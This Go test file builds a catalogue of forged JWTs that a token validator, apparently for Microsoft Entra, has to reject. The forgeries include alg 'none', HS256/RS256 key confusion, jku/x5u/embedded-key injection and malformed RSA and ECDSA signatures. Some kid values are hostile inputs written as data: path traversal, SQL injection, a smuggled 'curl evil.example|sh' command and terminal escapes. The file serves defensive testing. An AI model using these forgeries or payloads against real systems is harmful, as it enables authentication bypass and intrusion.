package validatetest

import (
	"crypto"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"math/big"
	"strings"
	"time"

	"flowscope/validate"
)

// attackHeader are forgeries that work through the header: the algorithm, the
// key and whatever else a careless reader takes from it.
//
// long because every header of the attack catalogue stands here once.
func attackHeader() []Case {
	body, want := UserV2(), WantUser()
	var out []Case
	add := func(name, token, why, lesson string, fails ...string) {
		out = append(out, Case{Name: name, Token: token, Want: want, Fails: fails, Says: why, Lesson: lesson})
	}
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		add("alg "+alg, Unsigned(Header("alg", quote(alg)), body), "not signed", "none is refused in every spelling.", "algorithm")
	}
	add("alg none with the signature left on", Sign(Header("alg", `"none"`), body), "not signed", "A signature nobody looks at protects nothing.", "algorithm")
	add("alg none without a kid", Unsigned(`{"alg":"none","typ":"JWT"}`, body), "not signed", "The plainest forgery; no key would be looked up.", "algorithm")
	public := &RSA().PublicKey
	der, err := x509.MarshalPKIXPublicKey(public)
	must(err)
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	pkcs1 := pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(public)})
	for _, s := range []struct {
		form   string
		secret []byte
	}{
		{"DER", der}, {"PEM", text}, {"PEM without its last newline", text[:len(text)-1]}, {"PKCS #1 PEM", pkcs1},
		{"PEM certificate", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: certificate(RSA(), RSA())})},
		{"JWK text", []byte(JWK(KeyID, public, ""))}, {"modulus", public.N.Bytes()}, {"nothing", nil},
	} {
		add("HS256 with the public key as "+s.form, SignHMAC(s.secret, Header("alg", `"HS256"`), body), "shared secret", "Whoever takes the algorithm from the token lets the public key be a secret.", "algorithm")
	}
	add("hs256 in small letters", SignHMAC(text, Header("alg", `"hs256"`), body), "shared secret", "The spelling does not change what it is.", "algorithm")
	for _, k := range [][2]string{
		{"a path", "../../../../dev/null"}, {"a path of Windows", `..\..\windows\win.ini`}, {"SQL", "x' UNION SELECT 'key';--"},
		{"an address", "https://evil.example/key"}, {"a command", "key;curl evil.example|sh"}, {"65 characters", strings.Repeat("a", 65)},
		{"a NUL", "a\x00b"}, {"an escape sequence", "\x1b[2J\x1b]0;evil\a"}, {"empty", ""}, {"a newline", "a\nb"},
	} {
		add("kid is "+k[0], Sign(Header("kid", quote(k[1])), body), "", "kid selects a key of the issuer's set and is never more than that.", "key")
	}
	add("kid is a number", Sign(Header("kid", "7"), body), "string is needed", "The type is part of the format.", "format", "key")
	add("kid is missing", Sign(Header("kid", ""), body), "names no key", "Trying all keys is guessing.", "key")
	add("kid is unknown", Sign(Header("kid", `"nobody"`), body), "None of the keys that were given", "An unknown key is looked for once, then refused.", "key")
	forger := SecondRSA()
	jwk := JWK("evil", &forger.PublicKey, "")
	cert := quote(base64.StdEncoding.EncodeToString(certificate(forger, forger)))
	for _, m := range [][3]string{
		{"jku", "jku", `"https://evil.example/keys"`}, {"jku on the issuer's own host", "jku", `"https://login.microsoftonline.com/common/discovery/v2.0/keys"`},
		{"x5u", "x5u", `"https://evil.example/cert.pem"`}, {"embedded jwk", "jwk", jwk}, {"self-signed x5c", "x5c", "[" + cert + "]"},
	} {
		add(m[0], SignWith(forger, "RS256", Header(m[1], m[2]), body), m[1], "Key material in a token is a forger's word for himself.", "key")
	}
	add("jku over a good signature", Sign(Header("jku", `"https://evil.example/keys"`), body), "jku", "The header is refused even where the signature is good.", "key")
	for _, c := range [][3]string{
		{"crit unknown", `["x"]`, ""}, {"crit empty", `[]`, ""}, {"crit a string", `"exp"`, ""}, {"crit of registered names", `["alg"]`, ""}, {"crit null", "null", ""},
	} {
		add(c[0], Sign(Header("crit", c[1]), body), "extensions", "What must be understood and is not ends the reading.", "format")
	}
	add("b64 false", Sign(Header("b64", "false", "crit", `["b64"]`), body), "RFC 7797", "b64 changes what the signature covers.", "format")
	add("b64 true", Sign(Header("b64", "true"), body), "RFC 7797", "No token may use it (RFC 7797 section 7).", "format")
	add("alg is missing", Sign(Header("alg", ""), body), "names no algorithm", "Nothing says how it was signed.", "algorithm")
	add("alg is a number", Sign(Header("alg", "256"), body), "", "The type is part of the format.", "format", "algorithm")
	add("alg in small letters", Sign(Header("alg", `"rs256"`), body), "in capitals", "Names of algorithms are compared exactly.", "algorithm")
	add("alg with a space", Sign(Header("alg", `"RS256 "`), body), "not on the list", "Not even a space is let through.", "algorithm")
	add("alg of encryption", Sign(Header("alg", `"RSA-OAEP"`), body), "not on the list", "An algorithm for encryption signs nothing.", "algorithm")
	add("alg twice", Sign(`{"alg":"RS256","alg":"none","typ":"JWT","kid":"`+KeyID+`"}`, body), "twice", "First or last: readers differ.", "format")
	add("alg twice, escaped", Sign(`{"\u0061lg":"none","alg":"RS256","typ":"JWT","kid":"`+KeyID+`"}`, body), "twice", "An escaped name is the same name.", "format", "algorithm")
	add("alg and Alg", Sign(Header("Alg", `"none"`), body), "case alone", "Some readers take either.", "format")
	return append(out, attackKey()...)
}

// attackKey are tokens whose key or signature is another than they say.
//
// long because every way to misuse a key stands here once.
func attackKey() []Case {
	body, want := UserV2(), WantUser()
	good := Sign(Header(), body)
	raw := signature(RSA(), "RS256", good[:strings.LastIndexByte(good, '.')])
	middle := append([]byte(nil), raw...)
	middle[len(middle)/2] ^= 0x40
	p256, p384, _ := EC()
	var out []Case
	add := func(name, token, says, lesson string, fails ...string) {
		out = append(out, Case{Name: name, Token: token, Want: want, Fails: fails, Says: says, Lesson: lesson})
	}
	with := func(algs ...string) {
		out[len(out)-1].Want.Algorithms = algs
	}
	add("signature changed", WithSignature(good, middle), "does not fit", "One bit is enough.", "signature")
	add("signature of another key", SignWith(SecondRSA(), "RS256", Header(), body), "does not fit", "Anybody can sign; only the issuer's key counts.", "signature")
	add("signature of another token", good[:strings.LastIndexByte(good, '.')+1]+strings.Split(Sign(Header(), AppV2()), ".")[2], "does not fit", "A signature belongs to one header and one set of claims.", "signature")
	add("claims changed", tampered(good, Claims(body, "scp", `"Orders.Read Orders.Admin"`)), "does not fit", "Whoever changes a claim breaks the signature.", "signature")
	add("signature empty", Unsigned(Header(), body), "empty", "An empty segment is no signature.", "signature")
	add("signature too short", WithSignature(good, raw[:255]), "255 bytes, 256 are needed", "An RSA signature is as long as its modulus.", "signature")
	add("signature with a leading zero", WithSignature(good, append([]byte{0}, raw...)), "does not fit", "One signature has one spelling.", "signature")
	add("signature of zeros", WithSignature(good, make([]byte, 256)), "does not fit", "Zero to any power is zero.", "signature")
	add("signature one", WithSignature(good, append(make([]byte, 255), 1)), "does not fit", "One to any power is one.", "signature")
	add("signature is the modulus", WithSignature(good, RSA().N.Bytes()), "does not fit", "A signature is smaller than the modulus.", "signature")
	add("signature plus the modulus", WithSignature(good, new(big.Int).Add(new(big.Int).SetBytes(raw), RSA().N).Bytes()), "does not fit", "A signature out of range is none, even if it fits after reduction.", "signature")
	add("PS256 presented as RS256", SignWith(RSA(), "PS256", Header(), body), "does not fit", "The paddings are not interchangeable.", "signature")
	add("RS384 presented as RS256", SignWith(RSA(), "RS384", Header(), body), "does not fit", "The hash is part of the algorithm.", "signature")
	add("RS384 over an RS256 signature", Sign(Header("alg", `"RS384"`), body), "does not fit", "A listed algorithm still has to be the one that was used.", "signature")
	with("RS256", "RS384")
	add("RS384 not on the list", SignWith(RSA(), "RS384", Header("alg", `"RS384"`), body), "not on the list", "Entra signs with RS256 only; the list is fixed.", "algorithm")
	add("PS256 not on the list", SignWith(RSA(), "PS256", Header("alg", `"PS256"`), body), "not on the list", "PS256 is for assertions that clients make.", "algorithm")
	add("EdDSA", SignWith(Ed(), "EdDSA", Header("alg", `"EdDSA"`, "kid", quote(EdKeyID)), body), "RFC 8037", "Entra does not sign with Ed25519.", "algorithm")
	add("ES256 with an RSA key", SignWith(p256, "ES256", Header("alg", `"ES256"`), body), "cannot verify", "Algorithm and key belong together.", "algorithm")
	with("ES256")
	add("RS256 with an EC key", Sign(Header("kid", quote(ECKeyID)), body), "cannot verify", "Algorithm and key belong together.", "algorithm")
	add("ES256 with a key on P-384", SignWith(p384, "ES256", Header("alg", `"ES256"`, "kid", quote(EC384KeyID)), body), "cannot verify", "Each algorithm has its curve.", "algorithm")
	with("ES256")
	add("PS256 with a salt of another length", shortSalt(Header("alg", `"PS256"`), body), "does not fit", "The salt is as long as the hash (RFC 7518 section 3.5).", "signature")
	with("PS256")
	es := SignWith(p256, "ES256", Header("alg", `"ES256"`, "kid", quote(ECKeyID)), body)
	esRaw := signature(p256, "ES256", es[:strings.LastIndexByte(es, '.')])
	order := p256.Params().N.FillBytes(make([]byte, 32))
	one := append(make([]byte, 31), 1)
	der, err := p256.Sign(nil, digest(es), crypto.SHA256)
	must(err)
	for _, s := range []struct {
		name string
		sig  []byte
	}{
		{"zeros", make([]byte, 64)}, {"r is zero", append(make([]byte, 32), esRaw[32:]...)}, {"s is zero", append(append([]byte(nil), esRaw[:32]...), make([]byte, 32)...)},
		{"r is the order", append(append([]byte(nil), order...), esRaw[32:]...)}, {"s is the order", append(append([]byte(nil), esRaw[:32]...), order...)},
		{"both are the order", append(append([]byte(nil), order...), order...)}, {"one and one", append(append([]byte(nil), one...), one...)},
		{"in DER", der}, {"cut in half", esRaw[:32]}, {"a byte too long", append(append([]byte(nil), esRaw...), 0)},
	} {
		says := "does not fit"
		if len(s.sig) < 64 {
			says = "32 bytes, 64 are needed"
		}
		add("ECDSA signature: "+s.name, WithSignature(es, s.sig), says, "r and s lie between one and the order, each as long as the order (RFC 7518 section 3.4).", "signature")
		with("ES256")
	}
	add("weak key", SignWith(WeakRSA(), "RS256", Header("kid", quote(WeakKeyID)), body), "1024", "A modulus of 1024 bits can be factored.", "key")
	add("encryption key", Sign(Header("kid", quote(EncKeyID)), body), `"enc"`, "A key for encryption signs nothing.", "key")
	add("certificate of another key", Sign(Header("kid", quote(FakeCertKeyID)), body), "certificate", "Key and certificate of a set have to agree.", "key")
	add("key for another algorithm", Sign(Header("kid", quote(RS512KeyID)), body), "RS512 only", "alg of the key binds the token.", "algorithm")
	add("key of another tenant", Sign(Header("kid", quote(OtherTenantKeyID)), body), "may sign for", "The key's own issuer has to be the token's.", "key")
	add("key of personal accounts", Sign(Header("kid", quote(ConsumersKeyID)), body), "may sign for", "A consumers' key never signs for a company.", "key")
	add("key of another cloud", good, "cloud", "Clouds share identifiers, not trust.", "key")
	out[len(out)-1].Keys = Metadata{KeySource: Source(), Issuer: IssuerV2, Cloud: "microsoftonline.com", KeyCloud: "microsoftonline.us"}
	add("key that cannot be used", good, "nothing may be verified", "An entry that is no key is not passed over.", "key")
	out[len(out)-1].Keys = NoKey(validate.KeyUnusable)
	return out
}

// tampered puts other claims between header and signature of a token.
func tampered(token, claims string) string {
	parts := strings.Split(token, ".")
	return parts[0] + "." + b64([]byte(claims)) + "." + parts[2]
}

// certificate makes one for subject, signed by issuer. PKCS #1 needs no chance,
// so it is the same in every run.
func certificate(subject, issuer *rsa.PrivateKey) []byte {
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "public test key"},
		NotBefore: Now().Add(-time.Hour), NotAfter: Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(nil, template, template, &subject.PublicKey, issuer)
	must(err)
	return der
}

// digest is the SHA-256 of a token's signing input.
func digest(token string) []byte {
	sum := sha256.Sum256([]byte(token[:strings.LastIndexByte(token, '.')]))
	return sum[:]
}
